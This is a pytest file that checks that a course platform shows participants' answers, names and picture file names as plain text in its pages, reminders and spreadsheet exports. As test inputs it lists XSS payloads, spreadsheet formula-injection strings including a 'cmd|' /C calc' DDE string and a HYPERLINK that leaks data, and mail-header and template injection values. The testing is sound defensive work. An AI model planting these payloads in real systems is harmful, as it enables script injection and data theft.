"""Nobody sees what is not theirs (issue 11): participant text is shown as text everywhere it appears.

Answer texts, names, nicknames and an uploaded picture's file name that look like HTML or script are
rendered by every page (summary cell, own change, group wall, dashboards), mail and chat reminder and
export, and each place is checked by parsing what it produced: the page's elements and attributes
are the same as with harmless text (nothing came from the participant), the participant's text reads
back exactly as typed (escaped once, never twice), and spreadsheet cells never start a formula.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import smtplib
import urllib.request
from datetime import UTC, datetime
from email import message_from_bytes, policy
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest

from valmennus.answers import AnswerStore, LoadResult
from valmennus.cohort.dashboard import DASHBOARDS, _views, context
from valmennus.cohort.privacy import FACILITATOR, Viewer
from valmennus.cohort.synthetic import synthetic_cohorts
from valmennus.cohort.view_common import table
from valmennus.cohort.views import progress_html
from valmennus.course.schedule import Week
from valmennus.course.settings import CourseSettings
from valmennus.items import for_week, get
from valmennus.kinds.share import MAX_NICKNAME_CHARS
from valmennus.ops import export as export_module
from valmennus.ops import remind as remind_module
from valmennus.ops import share as share_module
from valmennus.ops.share import Post, build_wall, render_wall
from valmennus.own_change import own_change_html
from valmennus.records.sources import (
    COLLECTED_COLUMNS,
    FEEDBACK_COLUMNS,
    GRADE_COLUMNS,
    PARTICIPANT_COLUMNS,
    CourseTables,
)
from valmennus.records.spreadsheet import spreadsheet_cell
from valmennus.records.status import course_weeks, week_table
from valmennus.summary import render_html, render_item_html

from .browser.images import drawing_png

# Text a participant might type (or an attacker might plant) that a page must never run or parse.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><b>lihava</b>",
    "&amp; &lt;b&gt; &#39; &quot;",  # already escaped: must read back as typed, not decoded once more
    "Tom & Jerry <3 'lainaus' \"sitaatti\"",  # must not come out double-escaped either
    "</td></tr></table></div><h1>otsikko</h1>",
    "<!-- kommentti --><style>body{display:none}</style>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>linkki</a>",
]
BENIGN = "Tavallinen teksti ilman merkintöjä"
SAVED = "2027-01-12T10:03:00+00:00"


class Page(HTMLParser):
    """What a browser builds from the markup: elements with their attribute names, and the text."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.shape: list[tuple[str, ...]] = []
        self.attributes: list[tuple[str, str, str | None]] = []
        self.texts: list[str] = []
        self.comments: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.shape.append(("<", tag, *sorted(name for name, _ in attrs)))
        self.attributes += [(tag, name, value) for name, value in attrs]

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.shape.append(("/", tag))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    @property
    def text(self) -> str:
        return "".join(self.texts)

    def values(self, attribute: str) -> list[str]:
        return [v or "" for _, name, v in self.attributes if name == attribute]


def _assert_text_only(hostile_markup: str, benign_markup: str, hostile: str, benign: str = BENIGN,
                      in_attribute: str | None = None, same_count: bool = True) -> Page:
    """``hostile`` changed no element or attribute, and reads back exactly, as text (or in ``in_attribute``)."""
    page, reference = Page(hostile_markup), Page(benign_markup)
    assert page.shape == reference.shape, "participant text became markup"
    assert page.comments == reference.comments
    assert not any(name.startswith("on") for _, name, _ in page.attributes)
    assert not any(v.strip().lower().startswith("javascript:") for v in page.values("href") + page.values("src"))
    assert hostile in page.text or in_attribute, "not shown as typed (escaped twice?)"
    if same_count:
        assert page.text.count(hostile) == reference.text.count(benign), "not shown as typed (escaped twice?)"
    if in_attribute:
        assert any(hostile in v for v in page.values(in_attribute))
    return page


# --- the summary cell: formgrader and the feedback page ---------------------------------------

def _esimerkki_answers(text: str, picture_name: str) -> LoadResult:
    png_ref = {"file": "esimerkki.upload.EX_RESPONSE.00.png", "original": picture_name, "type": "image/png",
               "size": 10}
    entries = {
        "EX_REFLECT": text,
        "EX_SHARED": text,
        "EX_RULER": {"score": 7, "why_not_lower": text, "what_would_raise": text},
        "EX_SHARE": {"mode": "nickname", "nickname": text[:MAX_NICKNAME_CHARS]},  # longer is refused
        "EX_RESPONSE": {"mode": "image", "text": "", "image": png_ref},
        "EX_CHOICE": text,  # not an option: shown as "not valid", never echoed
        "EX_QUIZ": {"chosen": [text], "correct": False},
        "EX_LIKERT": text,
    }
    return LoadResult(entries={k: {"value": v, "saved_at": SAVED} for k, v in entries.items()})


@pytest.mark.parametrize("hostile", HOSTILE)
def test_is_every_answer_and_picture_name_in_the_summary_text(hostile: str, tmp_path: Path) -> None:
    png = drawing_png()
    (tmp_path / "esimerkki.upload.EX_RESPONSE.00.png").write_bytes(png)
    items = for_week("esimerkki")
    markup = render_html(items, _esimerkki_answers(hostile, hostile), tmp_path)
    reference = render_html(items, _esimerkki_answers(BENIGN, BENIGN), tmp_path)
    page = _assert_text_only(markup, reference, hostile, in_attribute="alt", same_count=False)
    # the reflection, the shared thought, both ruler answers, the nickname (in "Jaetaan nimimerkillä …")
    nickname = hostile[:MAX_NICKNAME_CHARS]
    assert page.text.count(hostile) == 4 + (nickname == hostile) and f"nimimerkillä {nickname}" in page.text
    assert any(v == f"Osallistujan lataama kuva: {hostile}" for v in page.values("alt"))  # the picture's name
    (tmp_path / "esimerkki.upload.EX_RESPONSE.00.png").unlink()  # missing picture: its name in a message
    missing = render_html(items, _esimerkki_answers(hostile, hostile), tmp_path)
    page = _assert_text_only(missing, render_html(items, _esimerkki_answers(BENIGN, BENIGN), tmp_path), hostile,
                             same_count=False)
    assert f"Kuvatiedostoa {hostile} ei löydy." in page.text


def test_is_a_single_answer_text_while_nbgrader_grades(tmp_path: Path) -> None:
    hostile = HOSTILE[1]
    store, reference = AnswerStore("esimerkki", tmp_path / "a"), AnswerStore("esimerkki", tmp_path / "b")
    store.set("EX_REFLECT", hostile)
    reference.set("EX_REFLECT", BENIGN)
    item = get("EX_REFLECT")
    _assert_text_only(render_item_html(item, store), render_item_html(item, reference), hostile)


# --- the participant's own change -----------------------------------------------------------------

@pytest.mark.parametrize("hostile", HOSTILE[:3])
def test_does_own_change_show_numbers_only(hostile: str) -> None:
    """Hand-edited answers with markup in place of numbers are left out, never echoed."""
    before = {"DC11": 2, "DC12": hostile, "RR1": {"score": hostile, hostile: 1}, hostile: 3}
    after = {"DC11": 4, "DC12": 5, "RR1": {"score": 8}, hostile: hostile}
    markup = own_change_html(before, after)
    reference = own_change_html({"DC11": 2}, {"DC11": 4})
    page = Page(markup)
    assert page.shape == Page(reference).shape and hostile not in page.text
    assert "<" + hostile.lstrip("<\"'") not in markup


# --- the group wall -------------------------------------------------------------------------------

@pytest.mark.parametrize("hostile", HOSTILE)
def test_is_the_wall_text_whatever_the_author_topic_and_thought(hostile: str) -> None:
    def wall(text: str) -> str:
        posts = [Post(text, text, f"{text}\n{text}", Path("kuva.png")), Post(text, "Aihe", text)]
        return render_wall(posts, "esimerkki", {0: "kuva-001.png"})

    page = _assert_text_only(wall(hostile), wall(BENIGN), hostile, in_attribute="alt")
    assert page.values("src") == ["kuva-001.png"]


class _Gradebook:
    """The two calls the wall makes of nbgrader's gradebook: its students and their names."""

    def __init__(self, students: list[SimpleNamespace]) -> None:
        self.students = students

    def __enter__(self) -> _Gradebook:
        return self

    def __exit__(self, *_: object) -> None:
        return None


def _wall_course(root: Path, first: str, last: str, nickname: str, picture: str,
                 monkeypatch: pytest.MonkeyPatch) -> CourseSettings:
    course = CourseSettings(root=root, course_id="k", db_url="sqlite://", exchange_root=root / "exchange")
    students = [SimpleNamespace(id="p01", first_name=first, last_name=last),
                SimpleNamespace(id="p02", first_name="Mikko", last_name="Korhonen")]
    monkeypatch.setattr(share_module, "open_gradebook", lambda _course: _Gradebook(students))
    for pid, choice, thought in (("p01", {"mode": "name", "nickname": ""}, f"Oma nimi: {first}"),
                                 ("p02", {"mode": "nickname", "nickname": nickname}, f"Nimimerkki: {nickname}")):
        store = AnswerStore("esimerkki", root / "submitted" / pid / "esimerkki")
        store.set("EX_SHARED", thought)
        store.set("EX_SHARE", choice)
    folder = root / "submitted" / "p02" / "esimerkki"
    (folder / "esimerkki.upload.EX_RESPONSE.00.png").write_bytes(drawing_png())
    store = AnswerStore("esimerkki", folder)
    store.set("EX_RESPONSE", {"mode": "image", "text": "", "image": {
        "file": "esimerkki.upload.EX_RESPONSE.00.png", "original": picture, "type": "image/png", "size": 10}})
    return course


@pytest.mark.parametrize("hostile", [HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]])
def test_are_names_nicknames_and_picture_names_text_on_the_built_wall(
        hostile: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The wall as ``valmennus share --publish`` writes it, names from the gradebook, published copy too."""
    pages = {}
    for label, text in (("hostile", hostile), ("benign", BENIGN)):
        course = _wall_course(tmp_path / label, text, text, text[:MAX_NICKNAME_CHARS], f"piirros {text}.png",
                              monkeypatch)
        page = build_wall(course, "esimerkki", publish_to=tmp_path / label / "julkaistu")
        published = tmp_path / label / "julkaistu" / "esimerkki" / "index.html"
        assert published.read_text(encoding="utf-8") == page.read_text(encoding="utf-8")
        pages[label] = page.read_text(encoding="utf-8")
    page = _assert_text_only(pages["hostile"], pages["benign"], f"{hostile} {hostile}",
                             benign=f"{BENIGN} {BENIGN}")  # the full name is the author of p01's post
    assert f"Nimimerkki: {hostile[:MAX_NICKNAME_CHARS]}" in page.text and f"Oma nimi: {hostile}" in page.text
    assert page.values("src") == [] and "piirros" not in pages["hostile"]  # a picture not shared stays off


# --- the dashboards (a facilitator sees names) ------------------------------------------------------

def _named_context(first: str, last: str):  # noqa: ANN202 - dashboard.ViewContext
    data = synthetic_cohorts(6, seed=11)
    own = data.people["facilitator"] == "ohjaaja-a"
    data.people.loc[own, "first_name"] = first
    data.people.loc[own, "last_name"] = [f"{last} {n}" for n in range(int(own.sum()))]
    return context(data, Viewer(FACILITATOR, "ohjaaja-a"), b"escaping")


def _downloads(markup: str) -> list[list[list[str]]]:
    return [list(csv.reader(io.StringIO(base64.b64decode(link).decode("utf-8"))))
            for link in re.findall(r"href='data:text/csv;base64,([A-Za-z0-9+/=]+)'", markup)]


@pytest.fixture(scope="module")
def dashboard_pages() -> dict[str, dict[str, str]]:
    hostile, benign = _named_context(HOSTILE[1], HOSTILE[0]), _named_context("Etu", "Suku")
    formula = _named_context('=HYPERLINK("http://example.invalid/?x="&A1,"klikkaa")', "-2+3+cmd|' /C calc'!A0")
    return {name: {"hostile": _views()[name][0](hostile), "benign": _views()[name][0](benign),
                   "formula": _views()[name][0](formula)} for name in DASHBOARDS}


@pytest.mark.parametrize("name", DASHBOARDS)
def test_are_names_text_on_every_dashboard(name: str, dashboard_pages: dict[str, dict[str, str]]) -> None:
    pages = dashboard_pages[name]
    hostile, benign = Page(pages["hostile"]), Page(pages["benign"])
    assert hostile.shape == benign.shape, "a participant's name became markup"
    assert not any(attr.startswith("on") for _, attr, _ in hostile.attributes)
    if "Etu Suku" in benign.text:  # the pages that list participants show the facilitator's own by name
        assert f"{HOSTILE[1]} {HOSTILE[0]} 0 (O-" in hostile.text
        assert hostile.text.count(HOSTILE[1]) == benign.text.count("Etu Suku")


@pytest.mark.parametrize("name", DASHBOARDS)
def test_are_dashboard_downloads_formula_free(name: str, dashboard_pages: dict[str, dict[str, str]]) -> None:
    downloads = _downloads(dashboard_pages[name]["formula"])
    assert downloads
    cells = [cell for rows in downloads for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], "a cell a spreadsheet would run"
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(,\d+)?( %)?", c)]
    if "Etu Suku" in Page(dashboard_pages[name]["benign"]).text:
        assert any(c.startswith("'=HYPERLINK(") and "(O-" in c for c in cells)  # neutralised, still readable
    assert not any(c.startswith("'-") and re.fullmatch(r"'-\d+(,\d+)?( %)?", c) for c in cells)  # numbers stay


def test_does_the_progress_view_show_ids_as_text() -> None:
    hostile = HOSTILE[1]
    participants = pd.DataFrame([(hostile, "A", "B"), ("=1+1", "C", "D")], columns=PARTICIPANT_COLUMNS)
    empty = [pd.DataFrame(columns=c) for c in (GRADE_COLUMNS, COLLECTED_COLUMNS, FEEDBACK_COLUMNS)]
    now = datetime(2027, 1, 12, tzinfo=UTC)
    weeks = week_table([], ["viikko1"])
    progress = course_weeks(CourseTables(participants, *empty), weeks, pd.Timestamp(now))
    reference = course_weeks(CourseTables(participants.assign(participant=["tavallinen-1", "tavallinen-2"]), *empty),
                             weeks, pd.Timestamp(now))
    markup = progress_html(progress, "viikko1", "k", now)
    page = _assert_text_only(markup, progress_html(reference, "viikko1", "k", now), hostile, benign="tavallinen-1")
    assert hostile in page.text
    rows = _downloads(markup)[0]
    assert ["'=1+1"] == [row[0] for row in rows if "1+1" in row[0]]


def test_does_a_dashboard_table_neutralise_formulas_but_keep_numbers() -> None:
    frame = pd.DataFrame({"nimi": ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "Aino", "-", "–"],
                          "muutos": ["-0,25", "+1", "-3 %", "12", "0,5", "-1.5", "2 %", "1", "-"],
                          "n": [1, 2, 3, 4, 5, 6, 7, 8, 9]})
    (rows,) = _downloads(table(frame, "Otsikko", "tiedosto"))
    assert [r[0] for r in rows[1:]] == ["'=1+1", "'+1+1", "'-1+1", "'@SUM(A1)", "'\t=1", "'\r=1", "Aino", "'-", "–"]
    assert [r[1] for r in rows[1:]] == ["-0,25", "+1", "-3 %", "12", "0,5", "-1.5", "2 %", "1", "'-"]
    assert [r[2] for r in rows[1:]] == [str(n) for n in range(1, 10)]


def test_is_a_spreadsheet_cell_changed_only_when_it_would_run() -> None:
    assert spreadsheet_cell("=cmd") == "'=cmd" and spreadsheet_cell("Aino = A") == "Aino = A"
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(-0.5) == -0.5 and spreadsheet_cell(None) is None
    assert spreadsheet_cell("-12,5") == "-12,5" and spreadsheet_cell("-12-5") == "'-12-5"


# --- reminders: e-mail and chat -----------------------------------------------------------------

WEEK = Week(id="viikko1", release=datetime(2027, 1, 11, 6, tzinfo=UTC), due=datetime(2027, 1, 17, 21, 59, tzinfo=UTC),
            theme={"fi": "Ammattilainen digipalvelun asiakkaana"})


@pytest.mark.parametrize("lang", ["fi", "en", "sv"])
@pytest.mark.parametrize("name", [HOSTILE[0], HOSTILE[3], "{{ 7*7 }} {% raw %}", "Aino\nBcc: x@example.invalid"])
def test_is_a_name_in_the_reminder_plain_text(lang: str, name: str) -> None:
    subject, body = remind_module.render(WEEK, name, lang)
    assert name in body and "49" not in body  # as typed: neither escaped nor run by the template
    assert "\n" not in subject and name.split("\n")[0] not in subject


class _SMTP:
    sent: list[bytes] = []

    def __init__(self, *_: object, **__: object) -> None:
        pass

    def __enter__(self) -> _SMTP:
        return self

    def __exit__(self, *_: object) -> None:
        return None

    def send_message(self, message: object) -> None:
        _SMTP.sent.append(message.as_bytes())  # type: ignore[attr-defined]


def test_is_the_reminder_mail_plain_text_with_the_name_as_typed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(smtplib, "SMTP", _SMTP)
    _SMTP.sent = []
    name = f"{HOSTILE[1]} {HOSTILE[3]}"
    subject, body = remind_module.render(WEEK, name)
    reminder = remind_module.Reminder("p01", "p01@example.invalid", subject, body)
    remind_module._send_email(remind_module.Channels(smtp_host="localhost", smtp_from="o@example.invalid"), reminder)
    message = message_from_bytes(_SMTP.sent[0], policy=policy.default)
    assert not message.is_multipart() and message.get_content_type() == "text/plain"  # no HTML part to escape
    assert name in message.get_content()


class _Response:
    status = 204

    def __enter__(self) -> _Response:
        return self

    def __exit__(self, *_: object) -> None:
        return None


def test_does_the_chat_reminder_carry_markup_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    posted: list[dict] = []

    def urlopen(request: urllib.request.Request, timeout: float) -> _Response:  # noqa: ARG001
        posted.append(json.loads(request.data))  # type: ignore[arg-type]
        return _Response()

    monkeypatch.setattr(urllib.request, "urlopen", urlopen)
    name = "<!channel> <https://example.invalid|klikkaa> & <script>alert(1)</script>"
    subject, body = remind_module.render(WEEK, name)
    reminder = remind_module.Reminder("p01", "p01@example.invalid", subject, body)
    remind_module._send_webhook(remind_module.Channels(webhook_url="http://127.0.0.1:9/hook"), reminder, "viikko1")
    text = posted[0]["text"]
    assert "<" not in text and ">" not in text
    assert "&lt;!channel&gt; &lt;https://example.invalid|klikkaa&gt; &amp; &lt;script&gt;" in text
    assert posted[0]["participant"] == "p01" and posted[0]["week"] == "viikko1"


# --- exports: CSV and XLSX ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://example.invalid","klikkaa")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]


def _tables() -> CourseTables:
    people = [(f"p{n:02d}", first, "Virtanen") for n, first in enumerate([*FORMULAS, HOSTILE[0], "Aino"], 1)]
    people.append(("p09", "Bell\x07", "-"))
    submitted = pd.Timestamp("2027-01-12 08:00", tz="UTC")
    grades = [(pid, "viikko1", "viikko1", gid, "completion", 1.0, 1.0, submitted) for pid, *_ in people
              for gid in ("a", "b")]
    return CourseTables(participants=pd.DataFrame(people, columns=PARTICIPANT_COLUMNS),
                        grades=pd.DataFrame(grades, columns=GRADE_COLUMNS),
                        collected=pd.DataFrame(columns=COLLECTED_COLUMNS),
                        feedback=pd.DataFrame(columns=FEEDBACK_COLUMNS))


def test_are_exported_names_never_formulas_in_csv_or_xlsx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_module, "read_course", lambda _course: _tables())
    course = CourseSettings(root=tmp_path, course_id="k", db_url="sqlite://", exchange_root=tmp_path / "x")
    csv_path, xlsx_path = export_module.export_grades(course, ["viikko1"], tmp_path / "exports")
    with csv_path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    firsts = [r["first_name"] for r in rows]
    assert firsts[:6] == ["'" + f for f in FORMULAS]  # neutralised, the text otherwise kept
    assert firsts[6:8] == [HOSTILE[0], "Aino"] and rows[8]["last_name"] == "'-"
    assert {r["completion"] for r in rows} == {"2.0"} and {r["completion_max"] for r in rows} == {"2.0"}

    sheet = openpyxl.load_workbook(xlsx_path)["grades"]
    header = [c.value for c in sheet[1]]
    first, completion = header.index("first_name") + 1, header.index("completion") + 1
    cells = [sheet.cell(row=r, column=first) for r in range(2, sheet.max_row + 1)]
    assert [c.data_type for c in cells] == ["s"] * len(cells)  # no formula cell ("f") anywhere
    # XML reads a carriage return back as a line feed: a text cell either way, never a formula
    assert [c.value for c in cells[:6]] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert cells[8].value == "Bell\ufffd"  # a control character XML cannot hold does not break the workbook
    assert all(sheet.cell(row=r, column=completion).value == 2 for r in range(2, sheet.max_row + 1))
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
